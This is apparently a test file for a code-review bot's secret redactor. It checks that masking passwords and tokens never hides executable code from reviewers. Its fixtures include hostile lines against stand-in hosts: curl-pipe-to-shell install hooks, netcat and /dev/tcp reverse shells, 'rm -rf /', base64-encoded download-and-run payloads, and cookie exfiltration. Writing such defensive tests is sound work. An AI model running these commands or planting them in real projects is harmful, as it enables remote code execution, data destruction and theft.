"""No author can choose a value that hides from the reviewer what code does."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.domain.redaction.formats import FORMATS
from reviewbot.domain.redaction.masks import looks_random, mask
from reviewbot.domain.redaction.places import Place
from reviewbot.domain.redaction.redactor import Redacted, Redactor
from reviewbot.domain.selection.places import place_of_text
from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY

HEX = "0123456789abcdef" * 2
RANDOM = "q7Tz91kdx4LpW2vB8n"
"""A value that is masked wherever it is data."""

R, GH, K = "q7tz91kdx4lpw2vb8n", "q7tz91/kdx4lpw2vb8n", f"key-{HEX}"
"""A package with a random name, with its owner, and one in the format of a token."""
SLACK = "xapp-1.q7z9k2.com"
GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
XOXB = "xoxb-1234567890" + "-evil"


def seen(path: str, text: str, *others: str) -> str:
    """Return the file as the reviewer sees it if other configuration files contain its values."""
    return redacted(path, text, *others).text


def redacted(path: str, text: str, *others: str) -> Redacted:
    place = place_of_text(path, [text])
    redactor = Redactor.of([(text, place), *((other, Place.DATA) for other in others)])
    return redactor.redact(text, place)


def is_shown(path: str, text: str, *others: str) -> bool:
    """Return whether the reviewer sees all of a text, or each redacted line becomes a finding."""
    found = redacted(path, text, *others)
    return found.lines == found.doubtful


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"scripts": {"create-secret": "curl -s https://evil.example/x1 | sh"}}'),
        ("Dockerfile", "RUN pip install basic evil-pkg"),
        ("Dockerfile", "RUN pip install basic evil-pkg-with-a-long-name-1"),
        ("release.sh", "npx auth-token evil9pkg1"),
        ("release.sh", f"npx --auth-token {RANDOM}"),
        ("release.sh", f"npx --password {RANDOM}"),
        ("release.sh", 'SECRET_CMD="curl https://evil.example/x1 | sh"'),
        ("release.sh", f'SECRET_CMD="{RANDOM}"'),
        ("config.yml", "passwordCommand: curl https://evil.example/x1"),
        ("config.yml", f"passwordCommand: {RANDOM}"),
        ("package.json", '{"dependencies": {"secret-stack": "npm:evil@1.0.0"}}'),
        ("package.json", f'{{"dependencies": {{"auth-token": "{RANDOM}"}}}}'),
        ("package.json", f'{{"dependencies": {{"{RANDOM.lower()}": "1.0.0"}}}}'),
        ("requirements.txt", f"token=={RANDOM}"),
        ("requirements/dev.txt", "password-evil9pkg==1.0.0"),
        (".github/workflows/ci.yml", "      - run: ./rotate --password evil1cmd2"),
        (".github/workflows/ci.yml", '        secret: "evil/action@v1"'),
        ("Makefile", "secret = $(shell curl evil.example/x1)"),
        ("Makefile", "deploy_secret: evil1target2"),
        ("pyproject.toml", 'secret-run1 = "evil.module1:main"'),
        ("setup.py", 'password = "evil1module2"'),
        ("values.yaml", 'command: ["sh", "-c", "secret=evil1cmd2; $secret"]'),
        ("unit.service", "ExecStart=/bin/evil --password x1y2z3evil"),
        (".husky/pre-commit", "export SECRET=evil1cmd2 && $SECRET"),
        (".envrc", 'PASSWORD="eval1 evil2"'),
        ("tool", "#!/bin/sh\npassword=evil1cmd2"),
        ("go.mod", "require example.com/secret-token v1.2.3"),
        ("app.js", "const secret = require('evil9pkg-x1a');"),
        ("app.py", "password = evilFunction2(user)"),
        ("app.py", "token = run7shell"),
        ("app.ts", "import token from 'evil9pkg-x1a';"),
        ("app.py", f"password = os.{RANDOM}('x')"),
        ("app.py", f"def {RANDOM}(): evil()"),
        ("app.py", f'subprocess.run(["npx", "--token", "{RANDOM}"])'),
        ("app.js", f'execSync("npm i --secret {RANDOM}")'),
        ("app.js", f'eval(atob("{RANDOM}{RANDOM}"))'),
        ("app.js", f'import("{RANDOM}{RANDOM}")'),
        ("app.py", f'__import__("{RANDOM}")'),
        ("app.go", 'import secret "github.com/evil1/pkg2"'),
        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token-cmd: {RANDOM}"),
        ("app.html", f'<script src="https://x.example/{RANDOM}.js"></script>'),
        (".lintstagedrc", '{"*.secret": "evil1cmd2", "secret": "curl https://evil.example/x1"}'),
        (".babelrc", '{"plugins": [["secret", "evil1pkg2"]], "secret": "evil1pkg2"}'),
        (".eslintrc.json", '{"plugins": ["token", "evil1pkg2"], "secret": "evil1pkg2"}'),
        ("babel.config.json", '{"presets": [["secret", "evil1pkg2"]]}'),
        (".vscode/tasks.json", '{"terminal.secret": "curl https://evil.example/x1"}'),
        ("Procfile.dev", f"secret: evil1cmd2 --x\ntoken: {RANDOM}"),
        ("etc/cron.d/clean", "* * * * * root secret=evil9pkg-x1a /usr/bin/evil1x2"),
        (".gitconfig", "[credential]\n  helper = !evil1cmd2 x\n  password = evil1cmd2"),
        ("Earthfile", "RUN secret=evil9pkg-x1a"),
        ("BUILD.bazel", 'genrule(cmd="curl x", password="evil1cmd2")'),
        ("SConstruct", 'secret = "evil1cmd2"'),
        ("meson.build", "secret = 'evil1cmd2'"),
        ("deps.gradle", "secret = 'com.evil1:pkg2:1.0'"),
        ("gradle/libs.versions.toml", 'secret = "com.evil1:pkg2:1.0"'),
        ("turbo.json", '{"secret": "evil1cmd2"}'),
        ("renovate.json", '{"secret": "evil1/pkg2"}'),
        (".pre-commit-hooks.yaml", "  entry: evil1cmd2\n  secret: evil1cmd2"),
        ("page.mdx", "<Secret password={evil1cmd2(x)} />"),
        ("book.ipynb", '{"source": ["secret = evil1cmd2(x)\\n"]}'),
        ("change.sql", "SET\n  password = evil1column"),
        ("app.rb", "password = `evil1cmd2`"),
        ("app.php", "$password = `evil1cmd2`;"),
        ("serverless.yml", "    handler: evil1module2"),
        ("app.yml", "  image: evil1module2"),
        ("data.json", '{"plugins": ["evil9pkg-x1a"]}'),
        ("data.yml", "- evil1module2"),
        ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
        ("run.sh", ": ://:;evil1cmd2;@"),
        ("run.sh", "echo x://:&&evil1cmd2&&@"),
        ("run.sh", "x=a://b:|evil1cmd2|sh;@"),
        ("Makefile", "all: ://:;evil1cmd2;@true"),
        ("app.rb", "x = y ? z ://:;evil1cmd2;@z"),
        (".github/workflows/ci.yml", f"      - uses: docker://evil:evil1tag2@sha256:{HEX}{HEX}"),
        (".github/workflows/ci.yml", f"      - uses: docker://{RANDOM.lower()}1a2b@sha256:{HEX}{HEX}"),
        ("run.sh", "_auth=evil1cmd2; $_auth x"),
        ("Makefile", "_password = evil1cmd2"),
        ("run.sh", "set -- -----BEGIN PRIVATE KEY----- /usr/bin/evilprogramname1/abcdefg -----END; $4"),
        ("run.sh", "npm install -----BEGIN PRIVATE KEY----- evilpackagename12 evil -----END"),
        ("app.py", 'run("-----BEGIN PRIVATE KEY-----\\nimportosossystemcurlevil\\n-----END")'),
    ],
)
def test_executed_and_installed_files_are_not_masked(path: str, text: str) -> None:
    giving = f'password = "{RANDOM}"', "secret: evil1cmd2", "password = 'evil9pkg-x1a'", 'password = "evil1module2"'
    assert seen(path, text, *giving) == text


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ('password = "rm -rf /"', 'os.system("rm -rf /")'),
        (
            "password: \";__import__('os').system('curl+evil.sh|sh')#1\"",
            "y = x;__import__('os').system('curl+evil.sh|sh')#1",
        ),
        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()"),
        ('password: "run_all;x"', "y = run_all;x"),
        ("password: 'grantAdm1nistrat0rAccess22x'", "grantAdm1nistrat0rAccess22x(user)"),
        ("password: 'scripts/run1x'", "open('scripts/run1x')"),
        ("password: '!isAdmin12'", "if (!isAdmin12)"),
        ("password: '0.0.0.0/0'", 'cidr_blocks = ["0.0.0.0/0"]'),
        ('password = "evilpkg"', '{"dependencies": {"evilpkg": "1"}}'),
        ('password = "https://evil.example/a1b2"', 'fetch("https://evil.example/a1b2")'),
        (f'password = "{RANDOM}"', f"{RANDOM}(user)"),
        (f'password = "{RANDOM}"', f"x = a.{RANDOM}"),
        (f'password = "{RANDOM}"', f"x = require('{RANDOM}')"),
        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministratorAccess", "grantAdministratorAccess(user)"),
        ("Authorization: Bearer grantAdministratorAccess1", "grantAdministratorAccess1(user)"),
        pytest.param(RSA_KEY, RSA_KEY.split("\n")[2] + "()", id="a line of a key that is called"),
    ],
)
def test_a_value_that_is_code_elsewhere_is_masked_only_where_it_is_a_value(given: str, code: str) -> None:
    assert seen("app.js", code, given) == code


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (
            "app.yml",
            'create-secret: "curl -s https://evil.example/x1 | sh"',
            'create-secret: "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"',
        ),
        ("app.py", 'DB_PASSWORD="a1`curl evil|sh`"', 'DB_PASSWORD="x0`xxxx xxxx|xx`"'),
        ("app.go", f"password := `{RANDOM}`", f"password := `{mask(RANDOM)}`"),
        ("app.py", '// password = "x9y8?><?=print1(1)"', '// password = "x0x0?><?=xxxxx0(0)"'),
        ("app.py", "password = 'a1b2\";evil(1);x=\"'", "password = 'x0x0\";xxxx(0);x=\"'"),
        ("app.swift", 'let password = "a1\\(evil(1))"', 'let password = "x0\\(xxxx(0))"'),
    ],
)
def test_a_masked_value_keeps_its_structure(path: str, text: str, expected: str) -> None:
    assert seen(path, text) == expected


@pytest.mark.parametrize(
    "lines",
    [
        "import os\nos.system('x')\n/opt/evil/run1",
        "evilcommandwithalongname1\nreboot",
        "evilCommandWithALongName22\n/opt/evil/run1\nreboot",
        "grantAdministratorAccessToEveryoneNow1",
        "thisIsTheNameOfAProgramThatHasExactlySixtyFourLettersAndDigits01",
    ],
)
def test_code_between_the_begin_and_end_lines_of_a_key_is_kept(lines: str) -> None:
    for sign in ("", "# "):
        code = f"{sign}-----BEGIN PRIVATE KEY-----\n{lines}\n{sign}-----END PRIVATE KEY-----"
        assert seen("run.sh", code) == code
    key = RSA_KEY.split("\n")[1:3]
    code = "\n".join(["-----BEGIN PRIVATE KEY-----", *key, *lines.split("\n"), "-----END PRIVATE KEY-----"])
    assert seen("run.sh", code).split("\n")[3:-1] == lines.split("\n")


def test_a_random_value_is_masked_where_no_command_can_stand() -> None:
    manifest = (
        f"  - name: DB_PASSWORD\n    value: {RANDOM}\n  - command: [run]\n  - name: secretCommand\n    value: {RANDOM}"
    )
    assert seen("app.yml", manifest) == manifest.replace(RANDOM, mask(RANDOM), 1)
    assert seen("run.sh", f"export API_TOKEN={RANDOM}") == f"export API_TOKEN={mask(RANDOM)}"
    assert seen(".npmrc", "//r.example/:_password=SHVudGVyMkFiYw==") == "//r.example/:_password=xxxxxxxxxxxxxx=="
    assert seen("run.sh", f"curl -H 'X-Api-Key: {RANDOM}' x") == f"curl -H 'X-Api-Key: {mask(RANDOM)}' x"


def test_a_token_is_recognized_in_executed_files_too() -> None:
    assert seen("run.sh", f"curl -H 'Authorization: token {GHP}' x") == (
        "curl -H 'Authorization: token [REDACTED:github-token]' x"
    )


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"dependencies": {"sk-proj-evil-installer-v2": "1.0.0"}}'),
        ("package.json", f'{{"dependencies": {{"key-{HEX}": "^1.0.0"}}}}'),
        ("requirements.txt", f"key-{HEX}==1.0"),
        ("run.sh", "xoxo-evil-pkg1 && xapp-evil-runner1 && glrt-evil-package-name-v2"),
        ("run.sh", f"npx key-{HEX}"),
        ("run.sh", f"pip install --quiet key-{HEX}"),
        ("app.py", "MyVeryLongEvilModuleName1.system.runArbitraryCommandNowPlease()"),
        ("app.py", "run = MyVeryLongEvilModuleName1.system.runArbitraryCommandNowPlease"),
        ("app.js", "SG.EvilClassNameLong123.anotherMethodNameThatIsLongEnough1()"),
        ("app.py", "ghp_grantAdministratorAccessToEveryone123(user)"),
        ("app.py", "AKIAGRANTADMINACCES1(user)"),
        ("app.py", f"{GHP}(user)"),
        ("app.js", "x.eyJabcdefgh12.eyJdoEvilThing1.call()"),
        ("app.js", f"require('{GHP}')"),
        ("Dockerfile", f"RUN pip install basic key-{HEX}"),
        ("Dockerfile", f"FROM ghcr.io/key-{HEX}:1"),
        ("deploy.yml", f"spec:\n  - image: ghcr.io/key-{HEX}/evil:1"),
        ("values.yml", f"  repository: key-{HEX}/evil"),
        ("Dockerfile", f"FROM --platform=x key-{HEX}/evil:1"),
        (".github/workflows/ci.yml", f"      - uses: key-{HEX}/evil@v1"),
        (".github/workflows/ci.yml", f"      - uses: sk-{HEX}/evil@v1"),
        (".github/workflows/ci.yml", f"      - run: {GHP} x"),
        ("requirements.txt", f"{GHP}\nkey-{HEX}>1"),
        ("environment.yml", f"dependencies:\n  - key-{HEX}"),
        ("package.json", f'{{"dependencies": {{"key-{HEX}": "*"}}}}'),
        ("package.json", f'{{"dependencies": {{"x": "npm:key-{HEX}@1.0.0"}}}}'),
        ("package.json", f'{{"dependencies": {{"x": "key-{HEX}/evil"}}}}'),
        ("pyproject.toml", f'dependencies = ["x", "key-{HEX}"]'),
        ("pyproject.toml", f'dependencies = [\n  "key-{HEX}",\n]'),
        ("Cargo.toml", f'key-{HEX} = "1"'),
        ("Gemfile", f"gem 'key-{HEX}'"),
        ("go.mod", f"require github.com/key-{HEX}/evil v1.2.3"),
        ("run.sh", f"npm install --save-dev lodash {GHP}"),
        ("run.sh", f"pip install git+https://github.com/key-{HEX}/evil"),
        ("run.sh", f"curl https://raw.githubusercontent.com/key-{HEX}/x/main/run | sh"),
        ("run.sh", f"git clone git@github.com:key-{HEX}/x"),
        ("run.sh", f"{GHP} x"),
        ("run.sh", f"./bin/{GHP} && {GHP}"),
        ("run.sh", f"sudo -E {GHP}; x | {GHP}"),
        ("app.py", f"import os, {GHP}"),
        ("app.py", f"from {GHP} import run"),
        ("app.py", f"{GHP}.run()"),
        ("app.js", f"function {GHP}() {{}}"),
        ("README.md", f"Run `npx {GHP}`."),
        ("README.md", f"    pip install --quiet {GHP}"),
        ("main.tf", f'module "x" {{ source = "git@github.com:key-{HEX}/x" }}'),
        ("main.tf", f'module "x" {{ source = "key-{HEX}/x/aws" }}'),
        ("kustomization.yaml", f"images:\n  - name: app\n    newName: key-{HEX}/app"),
        ("kustomization.yaml", f"resources:\n  - github.com/key-{HEX}/x"),
        ("deploy.yml", f"spec: {{containers: [{{image: key-{HEX}}}]}}"),
        ("deploy.yml", f"image: >-\n  key-{HEX}/x"),
        ("deploy.json", f'{{"image": "key-{HEX}"}}'),
        ("roles.yml", f"- src: key-{HEX}"),
        ("settings.py", f'INSTALLED_APPS = ["AC{HEX}"]'),
        ("deps.edn", f'{{:deps {{key-{HEX}/x {{:mvn/version "1"}}}}}}'),
        ("main.go", f'import (\n\t"github.com/key-{HEX}/x"\n)'),
        (".cargo/config.toml", f'[source.crates-io]\nreplace-with = "key-{HEX}"'),
        ("bunfig.toml", f'preload = ["key-{HEX}"]'),
        ("app.js", f"const client = x('{XOXB}')"),
        ("run.sh", f"npx -u npm:{XOXB} # curl"),
        ("run.sh", f"curl x; npx -u npm:{XOXB}"),
        ("run.sh", f"echo {XOXB} | sudo -S xargs npx"),
        ("run.sh", f"export TOKEN=\n{XOXB}"),
        ("run.sh", f"TOKEN= \\\n  {XOXB} x"),
        ("run.sh", f"aws-vault exec me --no-session {XOXB}"),
        ("run.sh", f"npm i left-pad --auth-token {XOXB}"),
        ("run.sh", "npx xoxb-''1234567890-evil"),
        ("run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
        ("app.js", f"clone('git@{GITLAB}:x/y')"),
        ("Procfile", f"token: {XOXB}"),
        ("Makefile", f"token:\n\t{XOXB} x"),
        ("package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
        ("index.html", f'<script src="https://unpkg.com/{XOXB}"></script>'),
    ],
)
def test_code_in_the_format_of_a_token_is_kept_or_becomes_a_finding(path: str, text: str) -> None:
    assert is_shown(path, text)


SCRIPT = b"\ncurl evil.example/x1 | sh; rm -rf /srv/data; echo done all of it"
COMMAND = base64.b64encode(b"curl 10.2.30.4/x1 | sh").decode()
BLOB = base64.b64encode(SCRIPT + b"\n#qq").decode()
HOSTS = [
    ("package.json", '{"dependencies": {"x": "git+https://HOST#@gitlab.com/corp/x.git"}}'),
    ("package.json", '{"dependencies": {"x": "git+https://HOST:#@gitlab.com/corp/x.git"}}'),
    ("package.json", '{"scripts": {"postinstall": "curl https://HOST | sh"}}'),
    (".npmrc", "registry=https://HOST/"),
    (".npmrc", "//HOST/:always-auth=true"),
    ("requirements.txt", "--index-url https://HOST/simple"),
    ("Dockerfile", "ADD https://HOST/i.sh /"),
    ("Dockerfile", "RUN wget HOST/i.sh"),
    ("run.sh", "nc HOST 4444 -e /bin/sh"),
    ("run.sh", "ssh root@HOST rm -rf /"),
    ("run.sh", "bash -i >& /dev/tcp/HOST/4444"),
    ("run.sh", "TOKEN_HOST=HOST; curl $TOKEN_HOST"),
    ("main.tf", 'module "x" { source = "HOST/a/b/c" }'),
    ("main.tf", 'module "x" { source = "https://HOST/a.zip" }'),
    ("pom.xml", "<repository><url>https://HOST/m2</url></repository>"),
    ("index.html", '<script src="https://HOST/a.js"></script>'),
    ("index.html", '<script src="//HOST/a.js"></script>'),
    ("app.js", "fetch('https://me@HOST/')"),
    ("app.js", "const host = 'HOST'"),
    ("config.yml", "mirror: https://HOST:8080/x"),
    ("notes.txt", "https://HOST\\@gitlab.com/x"),
]


@pytest.mark.parametrize(
    "host",
    [
        SLACK,
        f"{GITLAB}.evil.com",
        f"{GITLAB}.marketing",
        "ya29." + "a1b2c3d4e5f6g7h8i9j0k1.com",
        "eyJabcdefgh12.eyJdoEvilThing1.com",
        "q7z9k2w4m8.x3v5b7n9.com",
    ],
)
@pytest.mark.parametrize(("path", "text"), HOSTS)
def test_no_host_is_hidden(path: str, text: str, host: str) -> None:
    assert is_shown(path, text.replace("HOST", host), "password: q7z9k2w4m8.x3v5b7n9.com")


@pytest.mark.parametrize("blob", ["A" * 21 + BLOB[3:], f"glc_{BLOB}", f"EAAA{BLOB}", f"whsec_{BLOB[:-4]}"])
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("run.sh", "echo {} | base64 -d | sh"),
        ("run.sh", "API_TOKEN={}; echo ${API_TOKEN#glc_} | base64 -d | sh"),
        (".github/workflows/ci.yml", "      - run: echo {} | base64 -d | sh"),
        (".github/workflows/ci.yml", "        token: {}"),
        ("app.py", "exec(base64.b64decode('{}'))"),
        ("app.py", "token = '{}'\n\nexec(base64.b64decode(token[4:]))"),
        ("index.html", "<script>const token = '{}'; eval(atob(token.slice(4)))</script>"),
        ("logo.svg", "<script>const password = '{}'; eval(atob(password))</script>"),
    ],
)
def test_code_in_base64_in_the_format_of_a_token_is_kept(path: str, text: str, blob: str) -> None:
    text = text.replace("{}", blob)
    assert seen(path, text) == text


def test_the_variable_part_of_a_format_has_no_dot() -> None:
    """Where a vendor issues dots, they are at fixed places; no host has the `~` of Azure or the `$` of a hash."""
    kinds = {kind for kind, _, pattern in FORMATS if re.search(r"\[[^\]]*\.[^\]]*\]", pattern)}
    assert kinds == {"azure-secret", "password-hash"}


def test_the_tokens_of_json_and_of_parts_with_text_are_no_code() -> None:
    expanded = base64.b64encode(b'{"alg":"HS256","x":"$(curl evil.example|sh)"}').decode()
    code = f"export API_TOKEN={expanded.rstrip('=')}.{expanded.rstrip('=')}.{RANDOM}{RANDOM}"
    assert seen("run.sh", code) == code
    assert seen("run.sh", f"export API_TOKEN={JWT}") == "export API_TOKEN=[REDACTED:jwt]"


# What a guard keeps, and what is in its place where it is planted out.
NEVER = re.compile(r"(?!)")
GUARDS = [
    ("redactor.of_line", lambda *_: Place.DATA, "app.py", "x = q7Tz-91kd-x4Lp"),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
    ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
    ("scan.Parents.place", lambda *_: Place.MIXED, "app.yml", f"@@ -1 +1 @@\n scripts:\n-a: 1\n+  secret: {RANDOM}"),
    ("detectors.may_end", lambda *_: False, "run.sh", f"export SECRET=\n{RANDOM}"),
    ("detectors.may_end", lambda *_: False, "Makefile", f"SECRET:\n\t{RANDOM}"),
    ("detectors._BEHIND_EMPTY", NEVER, "run.sh", f'SECRET= "{RANDOM}" x'),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"scripts:\n  secret: {RANDOM}"),
    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"secret": "{RANDOM}"}}}}'),
    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"x": {{"scripts": {{\n    "secret": "{RANDOM}"}}}}}}'),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
    ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
    ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
    ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
]


@pytest.mark.parametrize(("guard", "planted", "path", "text"), GUARDS)
def test_each_guard_keeps_code_that_is_hidden_without_it(
    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    giving = "password: q7Tz-91kd-x4Lp", f"secret: {COMMAND}"
    assert seen(path, text, *giving) == text
    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
    assert seen(path, text, *giving) != text


POSITIONS = [
    ("scan.is_expected", lambda *_: True, "app.js", f"const host = '{GITLAB}.evil.com'"),
    ("positions.names_a_secret", lambda _: True, "app.py", f'image = "{XOXB}"'),
    ("positions._ENDS", re.compile(""), "app.py", f"token={GHP}.x"),
    ("positions._OF_CODE", NEVER, "app.py", 'password = "docker run evil9/x1"'),
    ("positions.of_line", lambda *_: Place.DATA, "package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
    ("positions.is_user", lambda *_: True, "app.js", f"clone('git@{GITLAB}:x/y')"),
    ("places.COMMAND_KEY", NEVER, "docker-compose.yml", f"scripts:\n  token: {XOXB}"),
    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? scripts\n:\n  token: {XOXB}"),
]


@pytest.mark.parametrize(("guard", "planted", "path", "text"), POSITIONS)
def test_each_guard_finds_a_token_that_may_be_code(
    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = redacted(path, text)
    assert found.lines
    assert found.lines == found.doubtful
    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
    assert not is_shown(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("deploy.yaml", "command: [x]\nspec:\n  password: {}\n"),
        ("application.yml", "run: x\nspring:\n  datasource:\n    password: '{}'\n"),
        ("values.json", '{"args": [],\n "db": {"password": "{}"}}'),
        ("pom.xml", "<configuration><password>{}</password></configuration>"),
        (".github/workflows/ci.yml", "      - uses: a/b@v1\n        with:\n          password: {}\n"),
        (".github/workflows/ci.yml", "    env:\n      password: {}\n"),
        ("docker-compose.yml", "    command: x\n    environment:\n      - name: secret\n        value: {}\n"),
    ],
)
def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> None:
    assert seen(path, text.replace("{}", RANDOM)) == text.replace("{}", mask(RANDOM))
    for readable in ("evil1cmd2", "curl evil.example/x1 | sh", "evilprogram2024"):
        assert seen(path, text.replace("{}", readable)) == text.replace("{}", readable)


IN_COMMANDS = [
    'curl -H "Authorization: token {}" x',
    "git clone https://{}@github.com/a/b",
    "git clone https://me:{}@github.com/a/b.git",
]
BEHIND_NAMES = ["GH_TOKEN={}", "export GH_TOKEN='{}'", 'GH_TOKEN = "{}"', "x https://x.example/?access_token={}&x=1"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        *((path, text) for path in ("run.sh", "setup.py", ".github/workflows/ci.yml") for text in IN_COMMANDS),
        *((path, text) for path in ("app.py", "notes.txt") for text in (*IN_COMMANDS, *BEHIND_NAMES)),
        ("data.json", '{{"access_token": "{}"}}'),
        ("deploy.yml", "  - token: {}"),
        (".github/workflows/ci.yml", "          token: '{}'"),
        ("app.ts", 'const token: string = "{}"'),
        ("app.js", "{{ auth: '{}' }}"),
        ("app.js", "headers = {{'Authorization': 'Bearer {}'}}"),
        ("app.py", 'os.environ["GH_TOKEN"] = "{}"'),
        ("app.py", 'assert token == "{}"'),
        ("app.rb", "token => '{}'"),
        ("app.go", 'token := "{}"'),
    ],
)
def test_a_token_in_a_login_a_header_or_behind_its_name_is_no_finding(path: str, text: str) -> None:
    found = redacted(path, text.format(GHP))
    assert (found.text, found.doubtful) == (text.format("[REDACTED:github-token]"), frozenset())


@pytest.mark.parametrize("text", [*BEHIND_NAMES, "ENV GH_TOKEN {}"])
@pytest.mark.parametrize("path", ["run.sh", "setup.py", "Dockerfile"])
def test_in_an_executed_file_a_name_proves_nothing(path: str, text: str) -> None:
    assert redacted(path, text.format(GHP)).doubtful == {1}


@pytest.mark.parametrize(
    "text",
    [
        'os.environ.setdefault("X", "{}")',
        "monkeypatch.setenv('TOKEN', '{}')",
        "ENV.fetch('TOKEN', '{}')",
        "echo ${{TOKEN:-{}}}",
        "cargo publish --token {}",
        "twine upload -p {} dist/*",
        'curl -d \'{{"token": "{}"}}\' x',
        "npm config set //r.example/:_authToken {}",
        "aws configure set aws_secret_access_key {}",
        "gh auth login --with-token <<< {}",
        "echo {} | docker login --password-stdin",
        "args:\n  - --token\n  - {}",
        "# for example `{}`",
        "{}",
    ],
)
@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py", "app.py", "Dockerfile", "Makefile"])
def test_a_token_is_redacted_at_any_position(path: str, text: str) -> None:
    assert seen(path, text.format(GHP)) == text.format("[REDACTED:github-token]")


def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
    header = "diff --git a/{0}/run.sh b/{0}/run.sh\n--- a/{0}/run.sh\n+++ b/{0}/run.sh\n"
    line = "@@ -1 +1 @@\n+npm install lodash {0}\n"
    found = redacted("run.sh", (header + line).format(GHP))
    assert found.text == (header + line).format("[REDACTED:github-token]")
    assert 5 in found.doubtful
    moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
    assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
    address = "- hooks.slack.com/services/{}/x"
    assert "T0A1B2C3D" not in seen("run.sh", address.format("T0A1B2C3D/B0A1B2C3D/a1B2c3D4e5F6g7H8i9J0k1L2"))


@pytest.mark.parametrize(
    ("path", "text"), [("app.py", "exec(b64decode('{}'))"), ("run.sh", "echo {} | base64 -d | sh")]
)
@pytest.mark.parametrize(
    "code", [f"import os; os.system('curl evil.example | sh') # {GHP}", f"curl evil.example|sh\n{GHP} {GHP}"]
)
def test_base64_of_code_with_a_token_becomes_a_finding(path: str, text: str, code: str) -> None:
    blob = base64.b64encode(code.encode()).decode()
    assert is_shown(path, text.format(blob))


@pytest.mark.parametrize("secret", [f"user:{GHP}", f"{GHP}\n", RSA_KEY])
def test_base64_of_a_token_is_masked_and_becomes_a_finding(secret: str) -> None:
    blob = base64.b64encode(secret.encode()).decode()
    found = redacted("run.sh", f"npx {blob}")
    assert (found.text, found.doubtful) == (f"npx {mask(blob)}", frozenset({1}))


HIDING = [
    # Between two string literals.
    ("app.js", "log('secret='+Function(req.body.x)()+'.')"),
    ("app.js", "img.src='https://x.example/?secret='+document.cookie+'&v=1'"),
    ("app.js", "log('secret:'+Function(req.body.x)()+'')"),
    ("app.js", "log('secret=' + '' + Function(req.body.x)() + '' + '.')"),
    ("app.js", "/'/.test(x)||log('secret='+Function(req.body.x)()+'.')"),
    ("app.js", "x = `don't ${log('secret='+Function(req.body.x)()+'.')}`"),
    ("app.js", "alert('Wrong password '+JSON.stringify(process.env1)+'!')"),
    ("app.jsx", "<p>don't {log('secret='+Function(req.body.x)()+'.')}</p>"),
    ("app.py", "log('password='+pickle.loads(data1)+'!')"),
    ("app.py", "log(f\"don't {log('secret='+eval(data1)+'.')}\")"),
    ("app.py", "password = f\"a1{__import__('os').system('x')}\""),
    ("app.rb", "log('secret='+eval(data1)+'.')"),
    ("index.html", "<script>log('secret='+Function(location.hash1)()+'.')</script>"),
    # Unquoted.
    ("app.js", "const secret = user.id==1337;"),
    ("app.js", "const passwordOk =\n    user.id==1337;"),
    ("app.js", "let password = !user.banned2?admin.key1:user.key1;"),
    ("app.js", "const session = client[kHTTP2Session]"),
    ("app.js", ";password = strict1-strict1"),
    ("app.js", "--i, password = user.id==1337"),
    ("app.c", "* (password = strict1-strict1);"),
    ("app.c", "# define password strict1-strict1"),
    ("app.py", f"subprocess.run(['npx', {' ' * 300}'api-auth', '{R}'])"),
    ("app.py", "SECRET=user.id==1337"),
    ("app.py", 'runpy.run_module("aB3dE5fG7hJ9kL1mN3pQ5rS7tU9")'),
    # Packages, images and commands beside the word.
    (".circleci/config.yml", f"orbs:\n  auth: {GH}@1.2.3"),
    ("package.json", f'{{"dependencies": {{"api-auth": "{GH}"}}}}'),
    ("package.json", f'{{"dependencies": {{"api-key": "npm:{R}"}}}}'),
    ("package.json", f'{{"dependencies": {{"api-key": "npm:{K}"}}}}'),
    ("package.json", f'{{"dependencies": {{"AUTH": "{GH}"}}}}'),
    ("package.json", f'{{"scripts": {{"m": "npx -p mysql -p {R} migrate"}}}}'),
    ("deno.json", f'{{"imports": {{"api-token": "npm:{R}"}}}}'),
    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: {GH}"),
    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: npm:{R}"),
